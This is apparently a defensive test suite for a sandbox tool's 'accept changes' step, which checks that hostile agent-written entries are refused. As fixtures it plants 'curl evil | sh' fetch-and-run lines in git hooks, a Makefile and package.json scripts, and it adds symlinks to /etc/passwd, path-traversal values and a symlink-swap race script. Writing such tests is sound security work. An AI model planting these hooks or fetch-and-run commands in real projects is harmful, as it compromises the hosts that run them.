import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  existsSync,
  linkSync,
  lstatSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  readlinkSync,
  renameSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { planAccept, type WorkspaceChange } from '../src/workspace/accept-changes.js';
import type { LayerEntry } from '../src/workspace/overlay/layer-diff.js';
import { removeTrees } from '../src/_internal/remove-trees.js';
import { listTree, makeSandbox } from './helpers.js';

/** A hand-made layer holding what an agent left behind, hostile entries included. */
function setup() {
  const sb = makeSandbox({ 'keep.txt': 'keep\n', 'old.txt': 'old\n', 'src/a.ts': 'a1\n', '.git/hooks/.keep': '' });
  const layer = join(sb.root, 'layer');
  const put = (path: string, content: string, mode = 0o644): void => {
    mkdirSync(join(layer, path, '..'), { recursive: true });
    writeFileSync(join(layer, path), content);
    chmodSync(join(layer, path), mode);
  };
  put('src/a.ts', 'a2\n');
  put('src/new/b.ts', 'b\n');
  put('bin/tool', '#!/bin/sh\n', 0o4755);
  put('.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n', 0o755);
  put('agentcell.toml', '[network]\nmode = "open"\n');
  mkdirSync(join(layer, 'links'), { recursive: true });
  symlinkSync('/etc/passwd', join(layer, 'links', 'passwd'));
  symlinkSync('../../outside', join(layer, 'links', 'up'));
  symlinkSync('../src/a.ts', join(layer, 'links', 'ok'));
  execFileSync('mkfifo', [join(layer, 'fifo')]);
  execFileSync('mknod', [join(layer, 'dev'), 'c', '0', '0']);
  const sourceOf = (path: string): LayerEntry | undefined =>
    existsSync(join(layer, path)) || isLink(join(layer, path))
      ? { path: join(layer, path), stats: lstatSync(join(layer, path)) }
      : undefined;
  return { sb, layer, sourceOf };
}

function isLink(path: string): boolean {
  try {
    return lstatSync(path).isSymbolicLink();
  } catch {
    return false;
  }
}

const CHANGES: WorkspaceChange[] = [
  { path: 'src/a.ts', change: 'modified' },
  { path: 'src/new/b.ts', change: 'added' },
  { path: 'old.txt', change: 'deleted' },
  { path: 'bin/tool', change: 'added' },
  { path: '.git/hooks/pre-commit', change: 'added' },
  { path: 'agentcell.toml', change: 'added' },
  { path: 'links/passwd', change: 'added' },
  { path: 'links/up', change: 'added' },
  { path: 'links/ok', change: 'added' },
  { path: 'fifo', change: 'added' },
  { path: 'dev', change: 'added' },
  { path: '../escape', change: 'added' },
  { path: '/etc/cron.d/x', change: 'added' },
  { path: 'src/../../x', change: 'added' },
];

describe('accept', () => {
  it('applies ordinary changes and refuses every hostile one, leaving the host untouched by them', async () => {
    const { sb, sourceOf } = setup();
    try {
      const result = await planAccept({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: false }).apply();
      assert.deepEqual(result.applied.map((c) => c.path).sort(), [
        'bin/tool',
        'links/ok',
        'old.txt',
        'src/a.ts',
        'src/new/b.ts',
      ]);
      const refused = new Map(result.refused.map((r) => [r.path, r.reason]));
      assert.match(refused.get('.git/hooks/pre-commit') ?? '', /git control plane/);
      assert.match(refused.get('agentcell.toml') ?? '', /control-plane/);
      assert.match(refused.get('links/passwd') ?? '', /absolute path/);
      assert.match(refused.get('links/up') ?? '', /outside the workspace/);
      assert.match(refused.get('fifo') ?? '', /fifo/);
      assert.match(refused.get('dev') ?? '', /character device/);
      for (const p of ['../escape', '/etc/cron.d/x', 'src/../../x'])
        assert.match(refused.get(p) ?? '', /plain relative path/);

      assert.equal(readFileSync(join(sb.workspace, 'src/a.ts'), 'utf8'), 'a2\n');
      assert.equal(readFileSync(join(sb.workspace, 'src/new/b.ts'), 'utf8'), 'b\n');
      assert.equal(existsSync(join(sb.workspace, 'old.txt')), false);
      assert.equal(statSync(join(sb.workspace, 'bin/tool')).mode & 0o7777, 0o755, 'setuid bit dropped');
      assert.equal(readlinkSync(join(sb.workspace, 'links/ok')), '../src/a.ts');
      assert.equal(existsSync(join(sb.workspace, '.git/hooks/pre-commit')), false);
      assert.equal(existsSync(join(sb.workspace, 'agentcell.toml')), false);
      assert.equal(existsSync(join(sb.root, 'escape')), false);
      assert.equal(existsSync(join(sb.root, 'x')), false);
      assert.ok(!listTree(sb.workspace).some((p) => p.includes('.agentcell-accept-')), 'no temp files left');
    } finally {
      sb.cleanup();
    }
  });

  it('--force applies the control plane too; --dry-run changes nothing', async () => {
    const { sb, sourceOf } = setup();
    try {
      const before = listTree(sb.workspace);
      const dry = planAccept({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: true });
      assert.ok(dry.applied.some((c) => c.path === '.git/hooks/pre-commit'));
      assert.deepEqual(listTree(sb.workspace), before);
      await planAccept({ workspace: sb.workspace, changes: CHANGES, sourceOf, force: true }).apply();
      assert.match(readFileSync(join(sb.workspace, '.git/hooks/pre-commit'), 'utf8'), /curl evil/);
    } finally {
      sb.cleanup();
    }
  });

  it('never writes through a symlinked directory on the host', async () => {
    const { sb, sourceOf } = setup();
    try {
      const outside = join(sb.root, 'outside-dir');
      mkdirSync(outside);
      symlinkSync(outside, join(sb.workspace, 'src/new'));
      const result = await planAccept({
        workspace: sb.workspace,
        changes: [{ path: 'src/new/b.ts', change: 'added' }],
        sourceOf,
        force: false,
      }).apply();
      assert.match(result.refused[0]?.reason ?? '', /symlink on the host/);
      assert.deepEqual(listTree(outside), []);
    } finally {
      sb.cleanup();
    }
  });
});

describe('accept sets replaced and deleted entries aside', () => {
  /** A workspace with a file to replace, a tree and a symlink to delete, and a layer with the new file. */
  function scene() {
    const sb = makeSandbox({
      'a.txt': 'old\n',
      'tree/deep/f.txt': 'f\n',
      'dirx/inner.txt': 'i\n',
      'late.txt': 'late\n',
    });
    const outside = join(sb.root, 'outside');
    mkdirSync(outside);
    writeFileSync(join(outside, 'keep.txt'), 'keep\n');
    symlinkSync(outside, join(sb.workspace, 'link'));
    const layer = join(sb.root, 'layer');
    mkdirSync(layer);
    writeFileSync(join(layer, 'a.txt'), 'new\n');
    writeFileSync(join(layer, 'dirx'), 'a file now\n');
    writeFileSync(join(layer, 'late.txt'), 'from the cell\n');
    const sourceOf = (path: string): LayerEntry | undefined =>
      existsSync(join(layer, path)) ? { path: join(layer, path), stats: lstatSync(join(layer, path)) } : undefined;
    const changes: WorkspaceChange[] = [
      { path: 'a.txt', change: 'modified' },
      { path: 'tree', change: 'deleted' },
      { path: 'tree/deep', change: 'deleted' },
      { path: 'tree/deep/f.txt', change: 'deleted' },
      { path: 'link', change: 'deleted' },
      { path: 'dirx', change: 'modified' }, // a file where the workspace has a directory
      { path: 'late.txt', change: 'added' }, // the host made one meanwhile: replaced, not failed
    ];
    return { sb, outside, sourceOf, changes, oldInode: statSync(join(sb.workspace, 'a.txt')).ino };
  }

  it('moves them into the set-aside directory, never following a symlink, and leaves nothing else behind', async () => {
    const { sb, outside, sourceOf, changes, oldInode } = scene();
    try {
      const aside = join(sb.root, 'aside');
      mkdirSync(aside);
      const result = await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply({
        setAside: aside,
      });
      assert.equal(result.refused.length, 0);
      assert.deepEqual(listTree(sb.workspace).sort(), ['a.txt', 'dirx', 'late.txt']);
      assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'new\n');
      assert.equal(readFileSync(join(sb.workspace, 'dirx'), 'utf8'), 'a file now\n');
      assert.equal(readFileSync(join(sb.workspace, 'late.txt'), 'utf8'), 'from the cell\n');
      assert.deepEqual(listTree(outside), ['keep.txt'], 'the symlink was moved, not what it points at');
      const kept = readdirSync(aside).map((name) => lstatSync(join(aside, name)));
      assert.ok(
        kept.some((s) => s.ino === oldInode),
        'the replaced file is kept alive there, not freed in place',
      );
      assert.ok(kept.some((s) => s.isDirectory()) && kept.some((s) => s.isSymbolicLink()));
    } finally {
      sb.cleanup();
    }
  });

  it('removes them in place when the set-aside directory is on another filesystem', async () => {
    const { sb, outside, sourceOf, changes } = scene();
    const aside = mkdtempSync('/dev/shm/agentcell-aside-');
    try {
      assert.notEqual(statSync(aside).dev, statSync(sb.workspace).dev, '/dev/shm must be another filesystem');
      await planAccept({ workspace: sb.workspace, changes, sourceOf, force: false }).apply({ setAside: aside });
      assert.deepEqual(listTree(sb.workspace).sort(), ['a.txt', 'dirx', 'late.txt']);
      assert.equal(readFileSync(join(sb.workspace, 'a.txt'), 'utf8'), 'new\n');
      assert.deepEqual(listTree(outside), ['keep.txt']);
      assert.deepEqual(readdirSync(aside), []);
    } finally {
      rmSync(aside, { recursive: true, force: true });
      sb.cleanup();
    }
  });
});

describe('dropping layers after accept', () => {
  it('opens up only directories, so files accept hard-linked into the workspace keep their modes', () => {
    const sb = makeSandbox();
    try {
      const layer = join(sb.root, 'layer');
      mkdirSync(join(layer, 'locked', 'inner'), { recursive: true });
      writeFileSync(join(layer, 'f.txt'), 'x');
      chmodSync(join(layer, 'f.txt'), 0o644);
      chmodSync(join(layer, 'locked'), 0o000);
      linkSync(join(layer, 'f.txt'), join(sb.workspace, 'f.txt'));
      removeTrees([layer]);
      assert.equal(existsSync(layer), false);
      assert.equal(statSync(join(sb.workspace, 'f.txt')).mode & 0o7777, 0o644);
    } finally {
      sb.cleanup();
    }
  });
});

/**
 * A workspace (optionally a git repo with `gitConfig` set) and a hand-made layer: every
 * entry of the layer is a change (modified where the host has the path, else added).
 */
function hostileLayer(
  hostFiles: Record<string, string>,
  build: (layer: string) => void,
  gitConfig: Record<string, string> = {},
) {
  const sb = makeSandbox(hostFiles);
  if (Object.keys(gitConfig).length > 0) {
    execFileSync('git', ['init', '-q', sb.workspace]);
    for (const [key, value] of Object.entries(gitConfig))
      execFileSync('git', ['-C', sb.workspace, 'config', key, value]);
  }
  const layer = join(sb.root, 'layer');
  mkdirSync(layer);
  build(layer);
  const changes: WorkspaceChange[] = listTree(layer).map((path) => ({
    path,
    change: existsSync(join(sb.workspace, path)) || isLink(join(sb.workspace, path)) ? 'modified' : 'added',
  }));
  const sourceOf = (path: string): LayerEntry | undefined =>
    existsSync(join(layer, path)) || isLink(join(layer, path))
      ? { path: join(layer, path), stats: lstatSync(join(layer, path)) }
      : undefined;
  const plan = (force = false) => planAccept({ workspace: sb.workspace, changes, sourceOf, force });
  return { sb, layer, changes, plan };
}

function write(root: string, path: string, content = 'x\n'): void {
  mkdirSync(join(root, path, '..'), { recursive: true });
  writeFileSync(join(root, path), content);
}

function link(root: string, path: string, target: string): void {
  mkdirSync(join(root, path, '..'), { recursive: true });
  symlinkSync(target, join(root, path));
}

describe('accept judges symlinks in the tree as it will be, not lexically', () => {
  it('refuses links that escape through other links of the change or of the host, and links into .git', async () => {
    const { sb, plan } = hostileLayer({ 'src/a.ts': 'a\n', '.git/HEAD': 'ref: refs/heads/main\n' }, (layer) => {
      link(layer, 'm', '.'); // alone harmless: the workspace itself
      link(layer, 'l', 'm/m/..'); // lexically "." — physically the workspace's parent
      link(layer, 'chain/a', 'b');
      link(layer, 'chain/b', 'c/../..');
      link(layer, 'chain/c', '../m'); // c/.. = the parent of the workspace
      link(layer, 'viahost', 'hostlink/x'); // through the host's own symlink to /etc
      link(layer, 'abs', '/tmp');
      link(layer, 'hooks', '.git/hooks'); // into the control plane
      link(layer, 'loop1', 'loop2');
      link(layer, 'loop2', 'loop1/x');
      link(layer, 'ok', 'm/src/a.ts'); // positive control: through m, but inside
      link(layer, 'dangling', 'later/../src'); // a missing component counts as a directory: inside
    });
    symlinkSync('/etc', join(sb.workspace, 'hostlink'));
    try {
      const result = await plan().apply();
      const refused = new Map(result.refused.map((r) => [r.path, r]));
      assert.deepEqual([...refused.keys()].sort(), ['abs', 'chain/a', 'chain/b', 'hooks', 'l', 'loop1', 'viahost']);
      assert.match(refused.get('l')!.reason, /outside the workspace \(m\/m\/\.\.\)/);
      assert.equal(refused.get('l')!.tier, 'unsafe');
      assert.match(refused.get('viahost')!.reason, /through hostlink to an absolute path/);
      assert.match(refused.get('abs')!.reason, /absolute path/);
      assert.equal(refused.get('hooks')!.tier, 'refused');
      assert.match(refused.get('hooks')!.reason, /control plane \(\.git\/hooks\)/);
      assert.match(refused.get('loop1')!.reason, /loop/);
      // chain/c leads to the workspace itself; loop2 is judged again once loop1 is refused.
      assert.deepEqual(result.applied.map((c) => c.path).sort(), ['chain', 'chain/c', 'dangling', 'loop2', 'm', 'ok']);
      assert.equal(readlinkSync(join(sb.workspace, 'm')), '.');
      assert.equal(readFileSync(join(sb.workspace, 'ok'), 'utf8'), 'a\n');
      assert.equal(existsSync(join(sb.workspace, 'l')), false);
    } finally {
      sb.cleanup();
    }
  });

  it('judges a link by what is left once another is refused', () => {
    // The host's own d/a leads out; the change replaces it with a link into .git, which accept
    // refuses, so d/b (fine through the new d/a) would lead out through the host's d/a.
    const { sb, plan } = hostileLayer({ '.git/HEAD': 'ref: refs/heads/main\n' }, (layer) => {
      link(layer, 'd/a', '../.git');
      link(layer, 'd/b', 'a/../x');
      link(layer, 'd/c', 'x'); // positive control
    });
    rmSync(join(sb.workspace, 'd'), { recursive: true, force: true });
    mkdirSync(join(sb.workspace, 'd'));
    symlinkSync('../..', join(sb.workspace, 'd/a'));
    try {
      const result = plan();
      assert.deepEqual(
        result.applied.map((c) => c.path),
        ['d', 'd/c'],
      );
      assert.deepEqual(result.refused.map((r) => [r.path, r.tier]).sort(), [
        ['d/a', 'refused'],
        ['d/b', 'unsafe'],
      ]);
    } finally {
      sb.cleanup();
    }
  });
});

describe('the control plane is data, and read from the host repo’s own git config', () => {
  it('refuses git internals, nested repos, hooksPath, config-named scripts and agentcell.toml/.envrc anywhere; flags what tools run', async () => {
    const host = {
      'package.json': '{"name":"x","scripts":{"test":"node t.js"}}\n',
      'lib/package.json': '{"name":"y"}\n',
    };
    const { sb, plan } = hostileLayer(
      host,
      (layer) => {
        write(layer, '.git/commondir', '../elsewhere\n');
        write(layer, '.git/objects/ab/cdef', 'blob'); // data: accepted
        write(layer, '.git/objects/info/alternates', '/home/user/other/.git/objects\n');
        write(layer, '.git/rebase-merge/git-rebase-todo', 'exec curl evil | sh\n');
        write(layer, 'vendor/lib/.git/config', '[core]\n\tfsmonitor = ./evil\n');
        write(layer, 'vendor/other/.git', 'gitdir: ../../evil-git\n');
        write(layer, '.githooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
        write(layer, 'scripts/smudge.sh', '#!/bin/sh\ncurl evil | sh\n');
        write(layer, 'scripts/other.sh', 'echo fine\n'); // positive control
        write(layer, 'sub/dir/agentcell.toml', '[network]\nmode = "open"\n');
        write(layer, 'deep/er/.envrc', 'curl evil | sh\n');
        write(layer, 'web/.husky/pre-push', 'curl evil | sh\n');
        write(layer, '.vscode/tasks.json', '{}\n');
        write(layer, '.vscode/launch.json', '{}\n');
        write(layer, '.gemini/commands/x.toml', 'x\n');
        write(layer, 'opencode.json', '{}\n');
        write(layer, '.lintstagedrc.json', '{}\n');
        write(layer, 'Makefile', 'all:\n\tcurl evil | sh\n');
        write(layer, '.github/workflows/ci.yml', 'on: push\n');
        write(layer, 'package.json', '{"name":"x","scripts":{"test":"curl evil | sh"}}\n');
        write(layer, 'lib/package.json', '{"name":"y","version":"2"}\n'); // no scripts change: not flagged
      },
      { 'core.hooksPath': '.githooks', 'filter.evil.smudge': './scripts/smudge.sh %f' },
    );
    try {
      const result = plan();
      const tier = (path: string): string | undefined =>
        result.refused.find((r) => r.path === path)?.tier ?? result.flagged.find((f) => f.path === path)?.tier;
      for (const path of [
        '.git/commondir',
        '.git/objects/info/alternates',
        '.git/rebase-merge/git-rebase-todo',
        'vendor/lib/.git/config',
        'vendor/other/.git',
        '.githooks/pre-commit',
        'scripts/smudge.sh',
        'sub/dir/agentcell.toml',
        'deep/er/.envrc',
        'web/.husky/pre-push',
        '.vscode/tasks.json',
        'opencode.json',
      ])
        assert.equal(tier(path), 'refused', path);
      assert.match(result.refused.find((r) => r.path === '.githooks/pre-commit')!.reason, /core\.hooksPath/);
      assert.match(result.refused.find((r) => r.path === 'scripts/smudge.sh')!.reason, /filter\.evil\.smudge/);
      for (const path of [
        '.vscode/launch.json',
        '.gemini/commands/x.toml',
        '.lintstagedrc.json',
        'Makefile',
        '.github/workflows/ci.yml',
        'package.json',
      ])
        assert.equal(tier(path), 'review', path);
      for (const path of ['.git/objects/ab/cdef', 'scripts/other.sh', 'lib/package.json'])
        assert.equal(tier(path), undefined, path);

      // Review flags do not stop accept: with --force the refused ones land too, flagged.
      const forced = await plan(true).apply();
      assert.equal(forced.refused.length, 0);
      assert.ok(forced.flagged.some((f) => f.path === '.githooks/pre-commit' && f.tier === 'refused'));
      assert.ok(forced.flagged.some((f) => f.path === 'Makefile' && f.tier === 'review'));
    } finally {
      sb.cleanup();
    }
  });
});

describe('accept races a host that swaps a directory for a symlink', () => {
  /** Swaps `ws/d` for a symlink to `outside` and back, as fast as it can, counting swaps in `counter`. */
  const SWAPPER = `
    const fs = require('node:fs');
    const [ws, outside, counter] = process.argv.slice(1);
    let swaps = 0;
    const stopAt = Date.now() + 60000;
    while (Date.now() < stopAt) {
      try {
        fs.renameSync(ws + '/d', ws + '/d.real');
        fs.symlinkSync(outside, ws + '/d');
        fs.unlinkSync(ws + '/d');
        fs.renameSync(ws + '/d.real', ws + '/d');
        if (++swaps % 100 === 0) {
          fs.writeFileSync(counter + '.new', String(swaps)); // renamed, so a reader never sees it half-written
          fs.renameSync(counter + '.new', counter);
        }
      } catch {
        // Accept may make a new d while the real one is set aside: set that one aside
        // too and put the real one back, or every later swap would fail.
        try {
          if (fs.existsSync(ws + '/d.real')) {
            const st = fs.lstatSync(ws + '/d', { throwIfNoEntry: false });
            if (st && st.isSymbolicLink()) fs.unlinkSync(ws + '/d');
            else if (st) fs.renameSync(ws + '/d', ws + '/d.stray-' + swaps + '-' + Date.now());
            fs.renameSync(ws + '/d.real', ws + '/d');
          }
        } catch {}
      }
    }`;

  function restoreD(ws: string): void {
    if (isLink(join(ws, 'd'))) rmSync(join(ws, 'd'));
    if (existsSync(join(ws, 'd.real')) && !existsSync(join(ws, 'd'))) renameSync(join(ws, 'd.real'), join(ws, 'd'));
  }

  it('never writes outside and never crashes; what it could not write it reports, and a naive writer does leak', async () => {
    const sb = makeSandbox({ 'd/keep.txt': 'k\n' });
    const outside = join(sb.root, 'outside');
    const counter = join(sb.root, 'swaps');
    mkdirSync(outside);
    const { spawn } = await import('node:child_process');
    const swapper = spawn(process.execPath, ['-e', SWAPPER, sb.workspace, outside, counter], { stdio: 'ignore' });
    try {
      while (!existsSync(counter)) await new Promise((r) => setTimeout(r, 10));
      // Positive control: the same swap redirects a plain path-based write out of the workspace.
      let leaked = 0;
      // Bounded by time, not tries: a loaded machine may swap slowly.
      for (let i = 0, until = Date.now() + 20_000; leaked === 0 && Date.now() < until; i++) {
        try {
          writeFileSync(join(sb.workspace, 'd', `probe-${i}`), 'x');
        } catch {
          // d was mid-swap
        }
        leaked = readdirSync(outside).length;
      }
      assert.ok(leaked > 0, 'the swap can redirect a naive write (the probe can see a leak)');
      for (const name of readdirSync(outside)) rmSync(join(outside, name));

      let failedTotal = 0;
      let refusedTotal = 0;
      // At least 30 rounds, and more until accept has met the swap (a loaded machine swaps slowly).
      for (let round = 0; round < 30 || (refusedTotal + failedTotal === 0 && round < 300); round++) {
        const layer = join(sb.root, `layer-${round}`);
        const changes: WorkspaceChange[] = [{ path: `d/r${round}`, change: 'added' }];
        mkdirSync(join(layer, 'd', `r${round}`, 'sub'), { recursive: true });
        for (let i = 0; i < 40; i++) {
          const rel = `d/r${round}/${i % 2 ? 'sub/' : ''}f${i}`;
          writeFileSync(join(layer, rel), `${round}:${i}\n`);
          changes.push({ path: rel, change: 'added' });
        }
        changes.push({ path: `d/r${round}/sub`, change: 'added' });
        changes.push({ path: 'd/keep.txt', change: 'modified' });
        writeFileSync(join(layer, 'd/keep.txt'), `round ${round}\n`);
        const sourceOf = (path: string): LayerEntry | undefined =>
          existsSync(join(layer, path)) ? { path: join(layer, path), stats: lstatSync(join(layer, path)) } : undefined;
        const plan = planAccept({ workspace: sb.workspace, changes, sourceOf, force: false });
        refusedTotal += plan.refused.length;
        const result = await plan.apply(); // must not throw
        failedTotal += result.failed.length;
        assert.equal(
          result.applied.length + result.failed.length,
          plan.applied.length,
          'every change is applied or reported',
        );
        assert.deepEqual(readdirSync(outside), [], `round ${round}: nothing written outside`);
      }
      const swaps = Number(readFileSync(counter, 'utf8'));
      assert.ok(swaps >= 100, `the directory was swapped (${swaps} times)`);
      assert.ok(refusedTotal + failedTotal > 0, 'accept met the swap (refused in planning or failed in applying)');
    } finally {
      swapper.kill();
      await new Promise((r) => swapper.once('exit', r));
      restoreD(sb.workspace);
      sb.cleanup();
    }
  });
});

describe('a killed accept’s temporary files', () => {
  it('are removed by the next decision: only its own, only in the directories it named, never through a symlink', async () => {
    const sb = makeSandbox({ 'a/x.txt': 'x\n' });
    const cellDir = join(sb.root, 'cell');
    const outside = join(sb.root, 'outside');
    mkdirSync(cellDir);
    mkdirSync(outside);
    const { markTemps, removeStaleTemps } = await import('../src/workspace/accept-temps.js');
    const { newTempPrefix } = await import('../src/workspace/accept-changes.js');
    const prefix = newTempPrefix();
    const other = newTempPrefix();
    try {
      writeFileSync(join(sb.workspace, `${prefix}0`), 'stale');
      writeFileSync(join(sb.workspace, 'a', `${prefix}1`), 'stale');
      symlinkSync('/etc/passwd', join(sb.workspace, 'a', `${prefix}2`));
      mkdirSync(join(sb.workspace, 'a', `${prefix}3`)); // not a file accept writes: left alone
      writeFileSync(join(sb.workspace, 'a', `${other}0`), 'another accept’s'); // not ours
      writeFileSync(join(outside, `${prefix}9`), 'outside');
      symlinkSync(outside, join(sb.workspace, 'l'));
      markTemps(cellDir, prefix, ['', 'a', 'l']);
      assert.equal(removeStaleTemps(cellDir, sb.workspace), 3);
      assert.deepEqual(listTree(sb.workspace).sort(), ['a', `a/${prefix}3`, `a/${other}0`, 'a/x.txt', 'l'].sort());
      assert.deepEqual(readdirSync(outside), [`${prefix}9`], 'the symlinked directory was not followed');
      assert.equal(existsSync(join(cellDir, 'accept-temps.json')), false);
      assert.equal(removeStaleTemps(cellDir, sb.workspace), 0, 'nothing recorded: nothing to do');
    } finally {
      sb.cleanup();
    }
  });
});
